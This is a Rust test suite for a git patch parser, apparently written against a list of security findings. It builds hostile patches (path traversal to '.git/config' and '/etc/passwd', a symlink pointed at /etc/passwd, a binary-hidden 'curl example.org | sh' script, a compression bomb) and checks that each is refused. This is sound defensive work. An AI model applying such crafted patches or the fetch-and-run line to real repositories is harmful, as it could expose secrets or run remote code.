//! Patches that git reads otherwise than a person would. Each test shows what git does with
//! one, where that is cheap, and that the reader refuses it.
//!
//! The numbers are those of our list of 15 findings. Two have no test: for 5 (a link in the
//! worktree leads outside) nothing shows in the text, and of 13 (a file stands where a folder
//! is needed) the text shows only the case where both are in the patch.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use baton_patch::{Body, Code, Limits, Refusal, parse, raw};
use common::{Files, Repo, base, text};

const ID: &str = "0123456789012345678901234567890123456789";
const OTHER: &str = "abcdefabcdefabcdefabcdefabcdefabcdefabcd";
const ZERO: &str = "0000000000000000000000000000000000000000";

/// A repository with x and y (one line each) and a link, and its tree.
fn small() -> (Repo, String) {
    let repo = Repo::new();
    let mut files = Files::new();
    files.insert(b"x".to_vec(), ("100644", b"one\n".to_vec()));
    files.insert(b"y".to_vec(), ("100644", b"one\n".to_vec()));
    files.insert(b"link".to_vec(), ("120000", b"one".to_vec()));
    let tree = repo.tree(&files);
    repo.prepare(&tree);
    (repo, tree)
}

/// Applies the patch with git and says what happened, as "status path" words.
fn effect(patch: &str) -> Vec<String> {
    let (repo, tree) = small();
    let raw = raw::read(&repo.apply(&tree, patch.as_bytes()).unwrap()).unwrap();
    raw.iter()
        .map(|c| format!("{} {}", c.status, String::from_utf8_lossy(&c.path)))
        .collect()
}

fn refusal(patch: &str) -> Refusal {
    parse(patch.as_bytes(), &Limits::default()).expect_err(patch)
}

#[track_caller]
fn refuses(patch: &str, code: Code, line: usize) {
    let refusal = refusal(patch);
    assert_eq!(
        (refusal.code, refusal.line),
        (code, line),
        "{refusal}\n{patch}"
    );
}

/// A well-formed edit of x, to put before or after something hostile.
fn edit(path: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\nindex 5626abf..f719efd 100644\n--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-one\n+two\n"
    )
}

#[test]
fn finding_01_names_that_differ_without_rename_lines() {
    let patch = edit("x").replace("+++ b/x", "+++ b/y");
    assert_eq!(effect(&patch), ["D x", "M y"]);
    refuses(&patch, Code::NameMismatch, 4);
}

#[test]
fn finding_02_dev_null_without_its_mode_line() {
    let patch = edit("x").replace("+++ b/x", "+++ /dev/null");
    assert_eq!(effect(&patch), ["A dev/null", "D x"]);
    refuses(&patch, Code::DevNull, 4);
    refuses(
        &edit("x").replace("--- a/x", "--- /dev/null"),
        Code::DevNull,
        3,
    );
}

#[test]
fn finding_03_corrupt_binary_in_the_middle() {
    let header =
        format!("diff --git a/b b/b\nnew file mode 100644\nindex {ZERO}..{ID}\nGIT binary patch\n");
    for body in [
        "literal 5\n!!!\n\n",
        "literal 5\nHcmV?d00001\n\n",
        "literal 0\nHcmV?d00001 \n\n",
        "literal x\n\n",
    ] {
        let patch = format!("{}{header}{body}{}", edit("x"), edit("y"));
        let code = refusal(&patch).code;
        assert_eq!(code, Code::BadBinary, "{body}");
    }
    let patch = format!("{}{header}literal 5\n!!!\n\n{}", edit("x"), edit("y"));
    let (repo, tree) = small();
    // Some versions of git stop here in silence and keep what came before.
    if let Ok(applied) = repo.apply(&tree, patch.as_bytes()) {
        assert_eq!(
            raw::read(&applied).unwrap().len(),
            1,
            "the edit of y is lost"
        );
    }
}

#[test]
fn finding_04_copies_from_outside() {
    for source in [
        "../secret",
        ".git/config",
        "/etc/passwd",
        ".GIT/config",
        "a/../../b",
        "git~1/x",
    ] {
        for verb in ["copy", "rename"] {
            let patch = format!(
                "diff --git a/{source} b/n\nsimilarity index 100%\n{verb} from {source}\n{verb} to n\n"
            );
            refuses(&patch, Code::UnsafePath, 3);
            let patch = format!(
                "diff --git a/x b/{source}\nsimilarity index 100%\n{verb} from x\n{verb} to {source}\n"
            );
            refuses(&patch, Code::UnsafePath, 4);
        }
        refuses(&edit(source), Code::UnsafePath, 1);
    }
}

#[test]
fn finding_06_modes_that_git_does_not_store() {
    let add = |mode: &str| {
        format!(
            "diff --git a/n b/n\nnew file mode {mode}\nindex {ZERO}..{ID}\n--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+x\n"
        )
    };
    assert!(parse(add("100644").as_bytes(), &Limits::default()).is_ok());
    for mode in [
        "040000", "644", "010644", "100664", "100600", "0100644", "100644 ", "100644\r", "777", "",
    ] {
        refuses(&add(mode), Code::BadMode, 2);
    }
    refuses(&edit("x").replace(" 100644", " 100600"), Code::BadMode, 2);
    let patch = "diff --git a/x b/x\nold mode 100644\nnew mode 120000\n";
    refuses(patch, Code::TypeChange, 3);
}

#[test]
fn finding_07_a_lone_new_mode() {
    let patch = edit("x").replace("index", "new mode 100755\nindex");
    assert_eq!(effect(&patch), ["M x"]);
    refuses(&patch, Code::BadHeader, 2);
    refuses(
        &edit("x").replace("index", "old mode 100644\nindex"),
        Code::BadHeader,
        2,
    );
    let late = edit("x").replace("@@ -1", "new mode 100755\n@@ -1");
    assert_eq!(effect(&late), ["M x"]);
    refuses(&late, Code::BadHunkHeader, 5);
}

#[test]
fn finding_08_an_empty_section_before_a_mode_change() {
    let patch = "diff --git a/x b/x\ndiff --git a/y b/y\nold mode 100644\nnew mode 100755\n";
    assert_eq!(effect(patch), ["M x"], "it is x that becomes executable");
    refuses(patch, Code::EmptySection, 1);
}

#[test]
fn finding_09_no_mode_so_a_link_looks_like_text() {
    let patch = "diff --git a/link b/link\n--- a/link\n+++ b/link\n@@ -1 +1 @@\n-one\n\\ No newline at end of file\n+/etc/passwd\n\\ No newline at end of file\n";
    assert_eq!(effect(patch), ["M link"]);
    refuses(patch, Code::BadIndex, 1);
    refuses(
        &patch.replace("---", "index 43dd47e..0123456\n---"),
        Code::BadIndex,
        2,
    );
}

#[test]
fn finding_10_a_plain_section_changes_the_stripping() {
    let patch = format!("--- x\n+++ x\n@@ -1 +1 @@\n-one\n+two\n{}", edit("y"));
    refuses(&patch, Code::StrayHeader, 1);
    refuses(
        &format!("{}--- x\n+++ x\n@@ -1 +1 @@\n-one\n+two\n", edit("y")),
        Code::StrayHunkLine,
        8,
    );
    refuses(&edit("x").replace("a/x b/x", "x x"), Code::BadName, 1);
}

#[test]
fn finding_11_hunk_counts_off_by_one() {
    let short = format!("{}+more\n", edit("x"));
    assert_eq!(effect(&short), ["M x"]);
    refuses(&short, Code::StrayHunkLine, 8);
    let long = edit("x").replace("@@ -1 +1 @@", "@@ -1 +1,2 @@");
    refuses(&long, Code::Truncated, 8);
    refuses(&format!("{long}{}", edit("y")), Code::HunkLine, 8);
    refuses(
        &edit("x").replace("@@ -1 +1 @@", "@@ -1,2 +1 @@"),
        Code::Truncated,
        8,
    );
    refuses(
        &edit("x").replace("@@ -1 +1 @@", "@@ -0,0 +1 @@"),
        Code::HunkCount,
        6,
    );
    for header in [
        "@@ -1 +1",
        "@@ -1 +1 @@x",
        "@@ -01 +1 @@",
        "@@ -1,1 +1 @@",
        "@@ -99999999999 +1 @@",
        "@@-1 +1 @@",
        "@@ -1 +1 @@@",
    ] {
        refuses(
            &edit("x").replace("@@ -1 +1 @@", header),
            Code::BadHunkHeader,
            5,
        );
    }
    refuses(
        &edit("x").replace("@@ -1 +1 @@", "@@ -1 +7 @@"),
        Code::HunkPosition,
        5,
    );
}

#[test]
fn finding_12_binary_without_data() {
    let patch = format!(
        "diff --git a/x b/x\nindex {ID}..{OTHER} 100644\nBinary files a/x and b/x differ\n"
    );
    refuses(&patch, Code::BinaryWithoutData, 3);
    let (repo, tree) = small();
    let new = repo.git_with(&["hash-object", "-w", "--stdin"], b"nobody saw this\n");
    let new = String::from_utf8(new).unwrap();
    let old = "5626abf0f72e58d7a153368ba57db4c673c0e171";
    let patch = patch.replace(ID, old).replace(OTHER, new.trim());
    assert_eq!(
        raw::read(&repo.apply(&tree, patch.as_bytes()).unwrap()).unwrap()[0].new_id,
        new.trim()
    );
}

#[test]
fn finding_13_a_file_where_a_folder_is_needed() {
    let add = |path: &str| {
        format!("diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..e69de29\n")
    };
    refuses(
        &format!("{}{}{}", add("n-x"), add("n"), add("n/inner")),
        Code::PathConflict,
        7,
    );
    refuses(
        &format!("{}{}", add("n/inner/deep"), add("n")),
        Code::PathConflict,
        1,
    );
    refuses(&format!("{}{}", add("n"), add("n")), Code::DuplicatePath, 4);
}

#[test]
fn finding_14_a_creation_with_an_old_name() {
    let patch = edit("n").replace(
        "index 5626abf..f719efd 100644",
        "new file mode 100644\nindex 0000000..f719efd",
    );
    refuses(&patch, Code::DevNull, 4);
    let patch = patch.replace("--- a/n", "--- /dev/null");
    refuses(&patch, Code::WholeFile, 6);
}

#[test]
fn finding_15_binary_literals_are_decoded_and_deltas_refused() {
    let repo = Repo::new();
    let script = b"#!/bin/sh\n\0curl example.org | sh\n".repeat(3);
    let mut files = base();
    let old = repo.tree(&files);
    files.insert(b"s".to_vec(), ("100755", script.clone()));
    let bytes = repo.diff(&old, &repo.tree(&files), &[], &["--binary", "--full-index"]);
    assert!(
        !bytes.windows(4).any(|bytes| bytes == b"curl"),
        "nothing to see in the text"
    );
    let patch = parse(&bytes, &Limits::default()).unwrap();
    let Body::Binary { new, .. } = &patch.sections[0].body else {
        panic!("not binary")
    };
    assert_eq!(new, &script);

    let mut files = base();
    files.get_mut(&b"image.bin"[..]).unwrap().1[300] ^= 1;
    let bytes = repo.diff(&old, &repo.tree(&files), &[], &["--binary", "--full-index"]);
    assert_eq!(
        parse(&bytes, &Limits::default()).unwrap_err().code,
        Code::Delta
    );
    let limits = Limits {
        allow_delta: true,
        ..Limits::default()
    };
    assert!(matches!(
        parse(&bytes, &limits).unwrap().sections[0].body,
        Body::BinaryDelta(_)
    ));
}

#[test]
fn contradictions_in_one_section_are_refused() {
    let moved = "diff --git a/x b/n\nsimilarity index 100%\nrename from x\nrename to n\n";
    assert!(parse(moved.as_bytes(), &Limits::default()).is_ok());
    refuses(&moved.replace("100%", "90%"), Code::EmptySection, 1);
    refuses(&moved.replace("100%", "101%"), Code::BadHeader, 2);
    refuses(&moved.replace("to n", "to m"), Code::NameMismatch, 1);
    refuses(&moved.replace("rename to", "copy to"), Code::BadHeader, 3);
    refuses(&format!("{moved}rename from y\n"), Code::BadHeader, 5);
    refuses(&format!("{moved}{}", edit("n")), Code::DuplicatePath, 5);
    refuses(&format!("{moved}{}", edit("x")), Code::DuplicatePath, 5);
    refuses(&edit("x").replace("f719efd", "0000000"), Code::BadIndex, 2);
    refuses(&edit("x").replace("f719efd", "F719EFD"), Code::BadIndex, 2);
    refuses(
        &edit("sub").replace("100644", "160000"),
        Code::BadSubmodule,
        1,
    );
    let binary = format!(
        "diff --git a/x b/x\ndeleted file mode 100644\nindex {ID}..{ZERO}\nGIT binary patch\n\
         literal 0\nHcmV?d00001\n\nliteral 0\nHcmV?d00001\n\n"
    );
    assert!(parse(binary.as_bytes(), &Limits::default()).is_ok());
    // The same header over a body that leaves something behind.
    let left = binary.replacen("literal 0\nHcmV?d00001", "literal 1\nIcmZPo000310RR91", 1);
    assert!(parse(left.as_bytes(), &Limits::default()).is_err());
}

#[test]
fn covering_text_holds_no_second_diff() {
    for line in [
        "--- a/x",
        "+++ b/x",
        "@@ -1 +1 @@",
        "diff --cc x",
        "diff --combined x",
        "GIT binary patch",
        "Binary files a and b differ",
        "Index: x",
        "*** x",
    ] {
        refuses(
            &format!("text\n{line}\n{}", edit("x")),
            Code::StrayHeader,
            2,
        );
        refuses(&format!("{}\n{line}\n", edit("x")), Code::StrayHeader, 9);
    }
    refuses(
        &format!("{}\n{}", edit("x"), edit("y")),
        Code::StrayHeader,
        9,
    );
    refuses("just prose\n", Code::NoChange, 1);
    refuses("", Code::NoChange, 1);
}

#[test]
fn line_ends_are_gits_own() {
    refuses(&edit("x").replace('\n', "\r\n"), Code::NameMismatch, 1);
    refuses(edit("x").trim_end(), Code::Truncated, 7);
    refuses(
        &edit("x").replace("+two\n", "+two\n\\ Kein Zeilenumbruch\n"),
        Code::NoNewline,
        8,
    );
    let early = edit("x").replace(
        "@@ -1 +1 @@\n-one\n",
        "@@ -1,2 +1 @@\n-one\n\\ No newline at end of file\n-x\n",
    );
    refuses(&early, Code::NoNewline, 7);
    refuses(&edit("x").replace("-one\n", "\n"), Code::HunkLine, 6);
}

#[test]
fn limits_hold() {
    let patch = format!("{}{}", edit("x"), edit("y"));
    let full = Limits::default();
    for (limits, code) in [
        (
            Limits {
                bytes: 10,
                ..full.clone()
            },
            Code::TooLarge,
        ),
        (
            Limits {
                sections: 1,
                ..full.clone()
            },
            Code::TooManySections,
        ),
        (
            Limits {
                hunks: 1,
                ..full.clone()
            },
            Code::TooManyHunks,
        ),
        (
            Limits {
                line_bytes: 10,
                ..full.clone()
            },
            Code::LineTooLong,
        ),
        (
            Limits {
                path_bytes: 0,
                ..full.clone()
            },
            Code::PathTooLong,
        ),
    ] {
        assert_eq!(parse(patch.as_bytes(), &limits).unwrap_err().code, code);
    }
    let repo = Repo::new();
    let mut files = base();
    let old = repo.tree(&files);
    let mut zeros = vec![0; 2_000_000];
    zeros.extend(text(1..3));
    files.insert(b"bomb".to_vec(), ("100644", zeros));
    let bytes = repo.diff(&old, &repo.tree(&files), &[], &["--binary", "--full-index"]);
    assert!(bytes.len() < 100_000);
    let limits = Limits {
        binary_bytes: 1_000_000,
        ..full
    };
    assert_eq!(
        parse(&bytes, &limits).unwrap_err().code,
        Code::BinaryTooLarge
    );
}
